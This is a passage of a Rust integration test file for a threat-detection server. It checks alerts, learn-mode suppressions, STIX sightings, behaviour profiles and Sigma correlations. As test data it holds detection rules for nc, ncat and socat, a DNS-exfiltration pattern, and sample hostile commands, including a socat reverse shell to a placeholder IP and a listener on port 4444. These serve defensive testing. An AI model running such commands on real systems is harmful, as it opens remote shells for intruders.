@@ -1,0 +1,1037 @@
+//! Issue 9 through the real router: telemetry events become stored alerts with the lifecycle
+//! of hits; learn mode records would-be alerts and turns them into suppression rules; STIX
+//! indicator patterns (with their attack model) match events and hits' sample events and are
+//! stored as sightings linked to their alert; behaviour profiles learned on one replica score
+//! deviations on another, and a reset through the API reaches both. Runs on SQLite, and on
+//! PostgreSQL when `OUTPOST_TEST_PG_URL` is set (scripts/test.sh starts one).
+
+use crate::common;
+
+use axum::http::StatusCode;
+use outpost_server::config::ServerConfig;
+use outpost_store::{KeyKind, Store};
+use serde_json::{Value, json};
+
+const RULES: &str = r#"
+rules:
+  - id: netcat-listener
+    name: netcat run
+    indicator_type: suspicious_process
+    score: 120
+    condition:
+      any:
+        - {field: process.name, equals: nc}
+        - {field: process.name, equals: ncat}
+  - id: socat-relay
+    name: socat relay started
+    score: 10
+    condition:
+      all:
+        - {field: process.name, equals: socat}
+    actions: [alert, {tag: relay}, {job: {kind: process.list}}]
+"#;
+
+/// A Sigma rule and a Sigma correlation on it (issue 20): curl run three times within a
+/// minute. The rule alone produces no indicator (the correlation does not say `generate`).
+const SIGMA_CORRELATION: &str = r#"
+title: curl run
+id: 9d2c1f00-0000-4000-8000-000000000001
+name: curl_run
+logsource:
+    product: linux
+    category: process_creation
+detection:
+    selection:
+        Image|endswith: /curl
+    condition: selection
+level: low
+---
+title: curl run three times within a minute
+id: 9d2c1f00-0000-4000-8000-000000000002
+correlation:
+    type: event_count
+    rules:
+        - curl_run
+    group-by:
+        - User
+    timespan: 1m
+    condition:
+        gte: 3
+level: critical
+"#;
+
+const STIX: &str = r#"{
+  "type": "bundle", "id": "bundle--5d0092c5-5f74-4287-9642-33f4c354e56d",
+  "objects": [
+    {"type": "indicator", "spec_version": "2.1", "id": "indicator--1a2b3c4d-0000-4000-8000-000000000001",
+     "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z",
+     "name": "DNS tool with a long random label", "pattern_type": "stix",
+     "pattern": "[process:name = 'dig' AND process:command_line MATCHES '[a-z0-9]{16,}\\\\.']",
+     "valid_from": "2020-01-01T00:00:00Z"},
+    {"type": "attack-pattern", "spec_version": "2.1", "id": "attack-pattern--1a2b3c4d-0000-4000-8000-000000000003",
+     "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "name": "DNS exfiltration",
+     "external_references": [{"source_name": "mitre-attack", "external_id": "T1048.003"}]},
+    {"type": "intrusion-set", "spec_version": "2.1", "id": "intrusion-set--1a2b3c4d-0000-4000-8000-000000000004",
+     "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "name": "Blind RCE crew"},
+    {"type": "relationship", "spec_version": "2.1", "id": "relationship--1a2b3c4d-0000-4000-8000-000000000005",
+     "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "relationship_type": "indicates",
+     "source_ref": "indicator--1a2b3c4d-0000-4000-8000-000000000001", "target_ref": "attack-pattern--1a2b3c4d-0000-4000-8000-000000000003"},
+    {"type": "relationship", "spec_version": "2.1", "id": "relationship--1a2b3c4d-0000-4000-8000-000000000006",
+     "created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "relationship_type": "uses",
+     "source_ref": "intrusion-set--1a2b3c4d-0000-4000-8000-000000000004", "target_ref": "attack-pattern--1a2b3c4d-0000-4000-8000-000000000003"}
+  ]}"#;
+
+struct W {
+    app: axum::Router,
+    state: outpost_server::AppState,
+    admin: String,
+    customer: String,
+    tenant: String,
+    device: String,
+    token: String,
+    _dir: tempfile::TempDir,
+}
+
+/// A database for one test: SQLite in `dir`, or a fresh PostgreSQL schema.
+async fn stores(dir: &std::path::Path) -> Vec<(&'static str, Store)> {
+    let s = Store::open_sqlite_dir(dir).await.unwrap();
+    s.migrate().await.unwrap();
+    let mut v = vec![("sqlite", s)];
+    if let Some(url) = outpost_testkit::service("OUTPOST_TEST_PG_URL") {
+        let schema = format!("detection_test_{}", uuid::Uuid::new_v4().simple());
+        let admin = sqlx::PgPool::connect(&url).await.unwrap();
+        sqlx::query(sqlx::AssertSqlSafe(format!("CREATE SCHEMA {schema}")))
+            .execute(&admin)
+            .await
+            .unwrap();
+        let sep = if url.contains('?') { '&' } else { '?' };
+        let s = Store::connect(&format!("{url}{sep}options=-c%20search_path%3D{schema}"))
+            .await
+            .unwrap();
+        s.migrate().await.unwrap();
+        v.push(("postgres", s));
+    }
+    v
+}
+
+/// The configuration of one replica; replicas on one database share the signing key of the
+/// first one (`replica1`).
+fn config(dir: &std::path::Path, data: &std::path::Path) -> ServerConfig {
+    let rules = dir.join("rules");
+    let stix = dir.join("stix");
+    std::fs::create_dir_all(&rules).unwrap();
+    std::fs::create_dir_all(&stix).unwrap();
+    std::fs::write(rules.join("local.yml"), RULES).unwrap();
+    std::fs::write(rules.join("sigma_correlation.yml"), SIGMA_CORRELATION).unwrap();
+    std::fs::write(stix.join("dns.json"), STIX).unwrap();
+    let path = dir.join(format!(
+        "server-{}.toml",
+        data.file_name().unwrap().to_string_lossy()
+    ));
+    std::fs::write(
+        &path,
+        format!(
+            r#"
+data_dir = {data:?}
+rate_limit_per_s = 0
+[detect]
+rules_dir = {rules:?}
+stix_dir = {stix:?}
+stix_score = 150
+alert_threshold = 100
+[[outputs]]
+name = "siem"
+type = "file"
+path = {siem:?}
+filter = {{ kinds = ["event"] }}
+batch_size = 1
+[detect.profiles]
+learning_secs = 60
+abnormal_score = 120
+sync_secs = 3600
+"#,
+            data = data.display().to_string(),
+            rules = rules.display().to_string(),
+            stix = stix.display().to_string(),
+            siem = data.join("events.jsonl").display().to_string(),
+        ),
+    )
+    .unwrap();
+    let mut cfg = ServerConfig::load(Some(&path)).unwrap();
+    let first_key = dir.join("replica1").join(outpost_server::intel::KEY_FILE);
+    if first_key.exists() {
+        cfg.intel.signing_key_file = Some(first_key);
+    }
+    cfg
+}
+
+async fn replica(
+    store: &Store,
+    dir: &std::path::Path,
+    n: u32,
+) -> (axum::Router, outpost_server::AppState) {
+    let data = dir.join(format!("replica{n}"));
+    let state = outpost_server::build_state(config(dir, &data), store.clone())
+        .await
+        .unwrap();
+    (outpost_server::router(state.clone()), state)
+}
+
+async fn world(store: Store) -> W {
+    let dir = tempfile::tempdir().unwrap();
+    let t = store.create_tenant("acme").await.unwrap();
+    let (_, admin) = store.create_key(KeyKind::Admin, None, "").await.unwrap();
+    let (_, customer) = store
+        .create_key(KeyKind::Customer, Some(&t.id), "c")
+        .await
+        .unwrap();
+    let (d, token) = store
+        .create_device(&t.id, "web1", None, None)
+        .await
+        .unwrap();
+    let (app, state) = replica(&store, dir.path(), 1).await;
+    W {
+        app,
+        state,
+        admin,
+        customer,
+        tenant: t.id,
+        device: d.id,
+        token,
+        _dir: dir,
+    }
+}
+
+async fn call(
+    app: &axum::Router,
+    method: &str,
+    uri: &str,
+    token: &str,
+    body: Option<Value>,
+) -> (StatusCode, Value) {
+    let r = common::request(
+        app,
+        method,
+        uri,
+        Some(token),
+        &[],
+        body.map(|b| b.to_string().into_bytes()),
+    )
+    .await;
+    (r.status, r.json())
+}
+
+fn exec(ts: &str, name: &str, args: &[&str], parent: Option<&str>) -> Value {
+    let mut p = json!({"pid": 77, "name": name, "exe": format!("/usr/bin/{name}"), "args": args});
+    if let Some(par) = parent {
+        p["parent"] = json!({"pid": 1, "exe": par});
+    }
+    json!({"ts": ts, "kind": "process_exec", "source": "test", "process": p})
+}
+
+async fn post_events(app: &axum::Router, token: &str, batch: &str, events: Vec<Value>) -> Value {
+    let (s, v) = call(
+        app,
+        "POST",
+        "/api/v1/events",
+        token,
+        Some(json!({"batch_id": batch, "events": events})),
+    )
+    .await;
+    assert_eq!(s, StatusCode::OK, "{v}");
+    v
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn event_alerts_have_the_lifecycle_of_hits() {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, store) in stores(dir.path()).await {
+        let w = world(store).await;
+        let events = vec![
+            exec("2026-12-01T10:00:00Z", "ls", &["ls"], None),
+            exec("2026-12-01T10:00:01Z", "nc", &["nc", "-l", "4444"], None),
+        ];
+        let r = post_events(&w.app, &w.token, "e1", events.clone()).await;
+        assert_eq!(
+            (r["accepted"].as_u64(), r["alerts"].as_u64()),
+            (Some(2), Some(1)),
+            "{name}: {r}"
+        );
+        // A retry stores nothing twice.
+        post_events(&w.app, &w.token, "e1", events).await;
+        let (s, page) = call(
+            &w.app,
+            "GET",
+            "/api/v1/alerts?rule=netcat-listener",
+            &w.admin,
+            None,
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK, "{page}");
+        let items = page["items"].as_array().unwrap();
+        assert_eq!(items.len(), 1, "{name}: {page}");
+        let a = &items[0];
+        assert_eq!(a["process_name"], "nc");
+        assert_eq!(a["state"], "new");
+        // The rule (120) and the static engine's risky process nc (70).
+        assert_eq!(a["risk_score"], 190, "{a}");
+        assert_eq!(a["event"]["process"]["args"][2], "4444");
+        let id = a["id"].as_i64().unwrap();
+        // The customer sees the simplified alert and may only acknowledge it.
+        let (s, c) = call(
+            &w.app,
+            "GET",
+            &format!("/api/v1/alerts/{id}"),
+            &w.customer,
+            None,
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK);
+        assert!(
+            c.get("event").is_none() && c.get("indicators").is_none(),
+            "{c}"
+        );
+        let (s, _) = call(
+            &w.app,
+            "POST",
+            &format!("/api/v1/alerts/{id}/state"),
+            &w.customer,
+            Some(json!({"state": "false_positive"})),
+        )
+        .await;
+        assert_eq!(s, StatusCode::FORBIDDEN);
+        let (s, v) = call(
+            &w.app,
+            "POST",
+            &format!("/api/v1/alerts/{id}/state"),
+            &w.customer,
+            Some(json!({"state": "acknowledged", "expected_version": 0})),
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK, "{v}");
+        let (s, v) = call(
+            &w.app,
+            "POST",
+            &format!("/api/v1/alerts/{id}/state"),
+            &w.admin,
+            Some(json!({"state": "false_positive", "expected_version": 0})),
+        )
+        .await;
+        assert_eq!(s, StatusCode::CONFLICT, "{name}: {v}");
+        let (s, v) = call(
+            &w.app,
+            "POST",
+            &format!("/api/v1/alerts/{id}/state"),
+            &w.admin,
+            Some(json!({"state": "false_positive", "expected_version": 1, "note": "pentest"})),
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK, "{v}");
+        let (_, h) = call(
+            &w.app,
+            "GET",
+            &format!("/api/v1/alerts/{id}/history"),
+            &w.admin,
+            None,
+        )
+        .await;
+        let h = h["items"].as_array().unwrap();
+        assert_eq!(h.len(), 2);
+        assert_eq!(h[1]["to_state"], "false_positive");
+        assert_eq!(h[1]["note"], "pentest");
+        let (_, open) = call(&w.app, "GET", "/api/v1/alerts?state=new", &w.admin, None).await;
+        assert!(open["items"].as_array().unwrap().is_empty(), "{open}");
+        // A suppression rule narrowed to the rule applies to alerts too.
+        let (s, v) = call(&w.app, "POST", "/api/v1/suppressions", &w.admin, Some(json!({"tenant_id": w.tenant, "rule_name": "netcat-listener", "process_name": "nc"}))).await;
+        assert_eq!(s, StatusCode::CREATED, "{v}");
+        let r = post_events(
+            &w.app,
+            &w.token,
+            "e2",
+            vec![exec("2026-12-01T11:00:00Z", "nc", &["nc"], None)],
+        )
+        .await;
+        assert_eq!(r["alerts"], 0, "{name}: suppressed: {r}");
+        let (_, sup) = call(
+            &w.app,
+            "GET",
+            "/api/v1/alerts?state=suppressed",
+            &w.admin,
+            None,
+        )
+        .await;
+        assert_eq!(sup["items"].as_array().unwrap().len(), 1, "{sup}");
+        let r = post_events(
+            &w.app,
+            &w.token,
+            "e3",
+            vec![exec("2026-12-01T11:00:00Z", "ncat", &["ncat"], None)],
+        )
+        .await;
+        assert_eq!(r["alerts"], 1, "another process still alerts: {r}");
+        // A rule's job action queues a job for the device, once (not again on a retry).
+        let socat = vec![exec(
+            "2026-12-01T11:30:00Z",
+            "socat",
+            &["socat", "tcp:1.2.3.4:9", "exec:sh"],
+            None,
+        )];
+        let r = post_events(&w.app, &w.token, "e4", socat.clone()).await;
+        assert_eq!(r["alerts"], 1, "{r}");
+        post_events(&w.app, &w.token, "e4", socat).await;
+        let (s, jobs) = call(
+            &w.app,
+            "GET",
+            &format!("/api/v1/jobs?tenant={}", w.tenant),
+            &w.admin,
+            None,
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK, "{jobs}");
+        let list: Vec<&Value> = jobs
+            .as_array()
+            .or_else(|| jobs["items"].as_array())
+            .unwrap()
+            .iter()
+            .filter(|j| j["kind"] == "process.list")
+            .collect();
+        assert_eq!(list.len(), 1, "{name}: {jobs}");
+        assert_eq!(list[0]["device_id"], w.device.as_str());
+        // Its tag action tags the forwarded event.
+        let siem = w._dir.path().join("replica1").join("events.jsonl");
+        let t0 = std::time::Instant::now();
+        let tagged = loop {
+            let text = std::fs::read_to_string(&siem).unwrap_or_default();
+            let found: Vec<Value> = text
+                .lines()
+                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+                .filter(|d| d["event"]["process"]["name"] == "socat")
+                .collect();
+            if !found.is_empty() || t0.elapsed() > std::time::Duration::from_secs(20) {
+                break found;
+            }
+            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+        };
+        assert!(
+            !tagged.is_empty(),
+            "{name}: the socat event was not forwarded"
+        );
+        assert_eq!(
+            tagged[0]["event"]["tags"],
+            json!(["relay"]),
+            "{}",
+            tagged[0]
+        );
+        // Bad filters are clear errors.
+        let (s, v) = call(&w.app, "GET", "/api/v1/alerts?state=bogus", &w.admin, None).await;
+        assert_eq!(s, StatusCode::BAD_REQUEST, "{v}");
+        assert!(v["error"]["message"].as_str().unwrap().contains("bogus"));
+        let (s, _) = call(&w.app, "GET", "/api/v1/alerts/999999", &w.admin, None).await;
+        assert_eq!(s, StatusCode::NOT_FOUND);
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn learn_mode_turns_would_be_alerts_into_suppressions() {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, store) in stores(dir.path()).await {
+        let w = world(store).await;
+        let (s, v) = call(
+            &w.app,
+            "PUT",
+            "/api/v1/detect/learn",
+            &w.admin,
+            Some(json!({"tenant_id": "acme", "on": true, "hours": 24})),
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK, "{v}");
+        assert_eq!(v["learning"], true);
+        let (s, v) = call(
+            &w.app,
+            "PUT",
+            "/api/v1/detect/learn",
+            &w.admin,
+            Some(json!({"tenant_id": "acme", "on": true, "hours": 0})),
+        )
+        .await;
+        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
+        let (s, _) = call(
+            &w.app,
+            "PUT",
+            "/api/v1/detect/learn",
+            &w.customer,
+            Some(json!({"tenant_id": "acme", "on": false})),
+        )
+        .await;
+        assert_eq!(
+            s,
+            StatusCode::FORBIDDEN,
+            "customers cannot switch learn mode"
+        );
+        let r = post_events(
+            &w.app,
+            &w.token,
+            "l1",
+            vec![exec(
+                "2026-12-01T10:00:00Z",
+                "nc",
+                &["nc", "backup-host"],
+                None,
+            )],
+        )
+        .await;
+        assert_eq!(r["alerts"], 0, "{name}: learned, not alerted: {r}");
+        let (_, learned) = call(&w.app, "GET", "/api/v1/alerts?learned=true", &w.admin, None).await;
+        let items = learned["items"].as_array().unwrap();
+        assert_eq!(items.len(), 1, "{learned}");
+        assert_eq!(items[0]["state"], "suppressed");
+        assert_eq!(items[0]["state_changed_by"], "learn-mode");
+        let (s, st) = call(
+            &w.app,
+            "GET",
+            &format!("/api/v1/detect/learn?tenant={}", w.tenant),
+            &w.customer,
+            None,
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK, "{st}");
+        // The local rule and the static engine's risky-process entry fired.
+        let p = st["proposals"].as_array().unwrap();
+        assert_eq!(p.len(), 2, "{st}");
+        let nl = p
+            .iter()
+            .find(|p| p["rule_name"] == "netcat-listener")
+            .unwrap();
+        assert_eq!(
+            (
+                nl["process_name"].as_str(),
+                nl["alerts"].as_i64(),
+                nl["applied"].as_bool()
+            ),
+            (Some("nc"), Some(1), Some(false))
+        );
+        let (s, created) = call(
+            &w.app,
+            "POST",
+            "/api/v1/detect/learn/apply",
+            &w.admin,
+            Some(json!({"tenant_id": w.tenant})),
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK, "{created}");
+        assert_eq!(created["items"].as_array().unwrap().len(), 2, "{created}");
+        let (_, v) = call(
+            &w.app,
+            "PUT",
+            "/api/v1/detect/learn",
+            &w.admin,
+            Some(json!({"tenant_id": w.tenant, "on": false})),
+        )
+        .await;
+        assert_eq!(v["learning"], false);
+        assert!(
+            v["proposals"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .all(|p| p["applied"] == true),
+            "{v}"
+        );
+        let r = post_events(
+            &w.app,
+            &w.token,
+            "l2",
+            vec![exec(
+                "2026-12-01T12:00:00Z",
+                "nc",
+                &["nc", "backup-host"],
+                None,
+            )],
+        )
+        .await;
+        assert_eq!(
+            r["alerts"], 0,
+            "{name}: whitelisted by what was learned: {r}"
+        );
+        let r = post_events(
+            &w.app,
+            &w.token,
+            "l3",
+            vec![exec("2026-12-01T12:00:00Z", "ncat", &["ncat"], None)],
+        )
+        .await;
+        assert_eq!(r["alerts"], 1, "{r}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn stix_patterns_on_events_and_hits_become_linked_sightings() {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, store) in stores(dir.path()).await {
+        let w = world(store).await;
+        let dig = exec(
+            "2026-12-01T10:00:00Z",
+            "dig",
+            &["dig", "+short", "ifjeow0234f90iwefo2odj.wat.lol"],
+            None,
+        );
+        let r = post_events(
+            &w.app,
+            &w.token,
+            "s1",
+            vec![
+                dig.clone(),
+                exec("2026-12-01T10:00:01Z", "dig", &["dig", "example.com"], None),
+            ],
+        )
+        .await;
+        assert_eq!(r["alerts"], 1, "{name}: {r}");
+        let (_, page) = call(&w.app, "GET", "/api/v1/sightings", &w.admin, None).await;
+        let items = page["items"].as_array().unwrap();
+        assert_eq!(
+            items.len(),
+            1,
+            "{name}: only the random label matches: {page}"
+        );
+        let s = &items[0];
+        assert_eq!(
+            s["indicator_id"],
+            "indicator--1a2b3c4d-0000-4000-8000-000000000001"
+        );
+        assert_eq!(s["sighting"]["type"], "sighting");
+        assert_eq!(s["sighting"]["sighting_of_ref"], s["indicator_id"]);
+        assert_eq!(s["attack"]["attack_patterns"][0]["mitre_id"], "T1048.003");
+        assert_eq!(s["attack"]["intrusion_sets"][0]["name"], "Blind RCE crew");
+        assert!(!s["observed"].as_array().unwrap().is_empty());
+        let (_, alerts) = call(&w.app, "GET", "/api/v1/alerts", &w.admin, None).await;
+        let a = &alerts["items"][0];
+        assert_eq!(s["alert_id"], a["id"], "the sighting names its alert");
+        assert!(
+            a["indicators"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|i| i["engine"] == "stix"
+                    && i["extra_info"].as_str().unwrap().contains("T1048.003")),
+            "{a}"
+        );
+        // A hit's sample event matches too (stored once, also on a retry).
+        let hit = json!({"batch_id": "h1", "tenant_id": w.tenant, "device_id": w.device, "hostname": "web1",
+            "agent_version": "t", "hotlist_version": "v1", "hits": [{"remote_ip": "203.0.113.5", "remote_port": 53,
+            "protocol": "udp", "process_name": "dig", "pid": 77, "first_seen_utc": "2026-12-01T10:00:00Z",
+            "last_seen_utc": "2026-12-01T10:00:00Z", "hit_count": 1, "sample_events": [dig]}]});
+        for _ in 0..2 {
+            let (st, v) = call(&w.app, "POST", "/api/v1/hits", &w.token, Some(hit.clone())).await;
+            assert_eq!(st, StatusCode::OK, "{v}");
+        }
+        let (_, page) = call(&w.app, "GET", &format!("/api/v1/sightings?indicator=indicator--1a2b3c4d-0000-4000-8000-000000000001&device={}", w.device), &w.admin, None).await;
+        let items = page["items"].as_array().unwrap();
+        assert_eq!(items.len(), 2, "{name}: {page}");
+        assert_eq!(items[0]["batch_id"], "hits:h1");
+        // The rules status lists the loaded patterns.
+        let (_, st) = call(&w.app, "GET", "/api/v1/detect/rules", &w.admin, None).await;
+        assert_eq!(st["stix"]["patterns"], 1, "{st}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn profiles_learned_on_one_replica_score_on_another_and_reset_everywhere() {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, store) in stores(dir.path()).await {
+        let w = world(store.clone()).await;
+        let (app_b, state_b) = replica(&store, w._dir.path(), 2).await;
+        let prof_a = w.state.ingest.profiles().unwrap().clone();
+        let prof_b = state_b.ingest.profiles().unwrap().clone();
+        // Replica A learns nginx starting ls during the window (60 s from the first event).
+        post_events(
+            &w.app,
+            &w.token,
+            "p1",
+            vec![
+                exec(
+                    "2026-12-01T10:00:00Z",
+                    "ls",
+                    &["ls", "-l"],
+                    Some("/usr/sbin/nginx"),
+                ),
+                exec(
+                    "2026-12-01T10:00:30Z",
+                    "ls",
+                    &["ls", "-l"],
+                    Some("/usr/sbin/nginx"),
+                ),
+            ],
+        )
+        .await;
+        prof_a.sync(&store).await.unwrap();
+        prof_b.sync(&store).await.unwrap();
+        // After the window, on replica B: the known child is normal, a shell is a deviation.
+        let r = post_events(
+            &app_b,
+            &w.token,
+            "p2",
+            vec![
+                exec(
+                    "2026-12-01T10:05:00Z",
+                    "ls",
+                    &["ls", "-l"],
+                    Some("/usr/sbin/nginx"),
+                ),
+                exec(
+                    "2026-12-01T10:05:01Z",
+                    "sh",
+                    &["sh", "-c", "id"],
+                    Some("/usr/sbin/nginx"),
+                ),
+            ],
+        )
+        .await;
+        assert_eq!(r["alerts"], 1, "{name}: {r}");
+        let (_, alerts) = call(&app_b, "GET", "/api/v1/alerts", &w.admin, None).await;
+        let a = &alerts["items"][0];
+        assert_eq!(a["process_name"], "sh", "{a}");
+        let ind = a["indicators"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|i| i["engine"] == "profile")
+            .unwrap();
+        assert_eq!(
+            (ind["engine"].as_str(), ind["indicator_type"].as_str()),
+            (Some("profile"), Some("abnormal_behavior")),
+            "{a}"
+        );
+        assert!(
+            ind["extra_info"]
+                .as_str()
+                .unwrap()
+                .contains("new child process: /usr/bin/sh"),
+            "{ind}"
+        );
+        // Visible in the API (after B merged its deviation).
+        prof_b.sync(&store).await.unwrap();
+        let (s, page) = call(
+            &w.app,
+            "GET",
+            "/api/v1/profiles?tenant=acme&subject=exe:/usr/sbin/nginx",
+            &w.customer,
+            None,
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK, "{page}");
+        let p = &page["items"][0];
+        assert_eq!(p["children"], json!(["/usr/bin/ls"]), "{name}: {p}");
+        assert_eq!(p["status"], "profiled");
+        assert_eq!(p["deviations"], 1, "{p}");
+        let (_, all) = call(
+            &w.app,
+            "GET",
+            "/api/v1/profiles?status=profiled",
+            &w.admin,
+            None,
+        )
+        .await;
+        assert!(all["items"].as_array().unwrap().len() >= 2, "{all}");
+        // Reset on B reaches A at its next sync: nginx learns again, the shell is not scored.
+        let (s, _) = call(
+            &app_b,
+            "POST",
+            "/api/v1/profiles/reset",
+            &w.customer,
+            Some(json!({"tenant_id": w.tenant, "subject": "exe:/usr/sbin/nginx"})),
+        )
+        .await;
+        assert_eq!(s, StatusCode::FORBIDDEN);
+        let (s, v) = call(
+            &app_b,
+            "POST",
+            "/api/v1/profiles/reset",
+            &w.admin,
+            Some(json!({"tenant_id": w.tenant, "subject": "exe:/usr/sbin/nginx"})),
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK, "{v}");
+        assert_eq!(v["reset"], 1);
+        let (s, _) = call(
+            &app_b,
+            "POST",
+            "/api/v1/profiles/reset",
+            &w.admin,
+            Some(json!({"tenant_id": w.tenant, "subject": "exe:/nope"})),
+        )
+        .await;
+        assert_eq!(s, StatusCode::NOT_FOUND);
+        prof_a.sync(&store).await.unwrap();
+        let r = post_events(
+            &w.app,
+            &w.token,
+            "p3",
+            vec![exec(
+                "2026-12-01T10:10:00Z",
+                "sh",
+                &["sh", "-c", "id"],
+                Some("/usr/sbin/nginx"),
+            )],
+        )
+        .await;
+        assert_eq!(
+            r["alerts"], 0,
+            "{name}: learning again after the reset: {r}"
+        );
+        prof_a.sync(&store).await.unwrap();
+        let (_, page) = call(
+            &w.app,
+            "GET",
+            "/api/v1/profiles?tenant=acme&subject=exe:/usr/sbin/nginx",
+            &w.admin,
+            None,
+        )
+        .await;
+        let p = &page["items"][0];
+        assert_eq!(
+            (p["epoch"].as_i64(), p["status"].as_str()),
+            (Some(1), Some("profiled")),
+            "{p}"
+        );
+        assert_eq!(p["children"], json!(["/usr/bin/sh"]), "{p}");
+    }
+}
+
+/// Sigma correlation rules in the server's detection pipeline (issue 20): state per tenant
+/// (another tenant's matches do not count), the alert on the match that completes the
+/// correlation (the correlation's 90 plus the static engine's 50 for curl; curl alone is 50,
+/// under the threshold of 100), and the counters on `/metrics`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sigma_correlations_alert_per_tenant() {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, store) in stores(dir.path()).await {
+        let w = world(store.clone()).await;
+        let beta = store.create_tenant("beta").await.unwrap();
+        let (_, beta_token) = store
+            .create_device(&beta.id, "web2", None, None)
+            .await
+            .unwrap();
+        let curl = |ts: &str| exec(ts, "curl", &["curl", "http://example.test/"], None);
+        // Two curl runs in tenant beta: no alert.
+        let r = post_events(
+            &w.app,
+            &beta_token,
+            "b1",
+            vec![curl("2026-12-01T10:00:00Z"), curl("2026-12-01T10:00:05Z")],
+        )
+        .await;
+        assert_eq!(r["alerts"], 0, "{name}: {r}");
+        // Three in acme: the third completes the correlation (beta's two do not count).
+        let r = post_events(
+            &w.app,
+            &w.token,
+            "a1",
+            vec![
+                curl("2026-12-01T10:00:10Z"),
+                curl("2026-12-01T10:00:20Z"),
+                curl("2026-12-01T10:00:30Z"),
+            ],
+        )
+        .await;
+        assert_eq!(r["alerts"], 1, "{name}: {r}");
+        let (s, page) = call(
+            &w.app,
+            "GET",
+            "/api/v1/alerts?rule=9d2c1f00-0000-4000-8000-000000000002",
+            &w.admin,
+            None,
+        )
+        .await;
+        assert_eq!(s, StatusCode::OK, "{page}");
+        let items = page["items"].as_array().unwrap();
+        assert_eq!(items.len(), 1, "{name}: {page}");
+        let a = &items[0];
+        assert_eq!(a["tenant_id"], w.tenant.as_str(), "{a}");
+        assert_eq!(a["risk_score"], 140, "{a}");
+        assert!(
+            a["event"]["ts"]
+                .as_str()
+                .unwrap()
+                .starts_with("2026-12-01T10:00:30"),
+            "{a}"
+        );
+        // The third in beta (within its minute) completes beta's own correlation.
+        let r = post_events(
+            &w.app,
+            &beta_token,
+            "b2",
+            vec![curl("2026-12-01T10:00:40Z")],
+        )
+        .await;
+        assert_eq!(r["alerts"], 1, "{name}: {r}");
+        let m = common::request(&w.app, "GET", "/metrics", None, &[], None).await;
+        let text = String::from_utf8_lossy(&m.body).into_owned();
+        let fired = text
+            .lines()
+            .find_map(|l| l.strip_prefix("outpost_detect_correlations_fired_total "))
+            .and_then(|v| v.trim().parse::<f64>().ok())
+            .unwrap_or_else(|| panic!("no correlation counter in /metrics:\n{text}"));
+        assert!(fired >= 2.0, "{fired}");
+        assert!(
+            text.contains("outpost_detect_correlation_evictions_total "),
+            "{text}"
+        );
+    }
+}
+
+/// "wget run fewer than two times within a minute" (an upper bound): decided by the timer.
+const SIGMA_FEW: &str = r#"
+title: wget run
+id: 9d2c1f00-0000-4000-8000-000000000011
+name: wget_run
+logsource:
+    product: linux
+    category: process_creation
+detection:
+    selection:
+        Image|endswith: /wget
+    condition: selection
+level: low
+---
+title: wget run only once within a minute
+id: 9d2c1f00-0000-4000-8000-000000000012
+correlation:
+    type: event_count
+    rules:
+        - wget_run
+    group-by:
+        - User
+    timespan: 1m
+    condition:
+        lt: 2
+level: critical
+"#;
+
+async fn alerts_of(w: &W, rule: &str) -> Vec<Value> {
+    let (s, page) = call(
+        &w.app,
+        "GET",
+        &format!("/api/v1/alerts?rule={rule}"),
+        &w.admin,
+        None,
+    )
+    .await;
+    assert_eq!(s, StatusCode::OK, "{page}");
+    page["items"].as_array().unwrap().clone()
+}
+
+/// A retried upload (same device, same batch id: the agent did not get the answer) does not
+/// count its matches again, and gets the correlation alerts its first upload got.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sigma_correlations_count_a_retried_batch_once() {
+    let dir = tempfile::tempdir().unwrap();
+    for (name, store) in stores(dir.path()).await {
+        let w = world(store).await;
+        let curl = |ts: &str| exec(ts, "curl", &["curl", "http://example.test/"], None);
+        let two = vec![curl("2026-12-01T10:00:00Z"), curl("2026-12-01T10:00:05Z")];
+        assert_eq!(
+            post_events(&w.app, &w.token, "r1", two.clone()).await["alerts"],
+            0
+        );
+        // The retry: still two matches, not four (which would complete the correlation).
+        let r = post_events(&w.app, &w.token, "r1", two).await;
+        assert_eq!(
+            r["alerts"], 0,
+            "{name}: the retried batch was counted again: {r}"
+        );
+        // The third match completes it.
+        let r = post_events(&w.app, &w.token, "r2", vec![curl("2026-12-01T10:00:10Z")]).await;
+        assert_eq!(r["alerts"], 1, "{name}: {r}");
+        // A batch that completed one, retried: the same alert, not a second count.
+        let three = vec![
+            curl("2026-12-01T10:01:00Z"),
+            curl("2026-12-01T10:01:01Z"),
+            curl("2026-12-01T10:01:02Z"),
+        ];
+        assert_eq!(
+            post_events(&w.app, &w.token, "r3", three.clone()).await["alerts"],
+            1
+        );
+        assert_eq!(
+            post_events(&w.app, &w.token, "r3", three).await["alerts"],
+            1
+        );
+        let items = alerts_of(&w, "9d2c1f00-0000-4000-8000-000000000002").await;
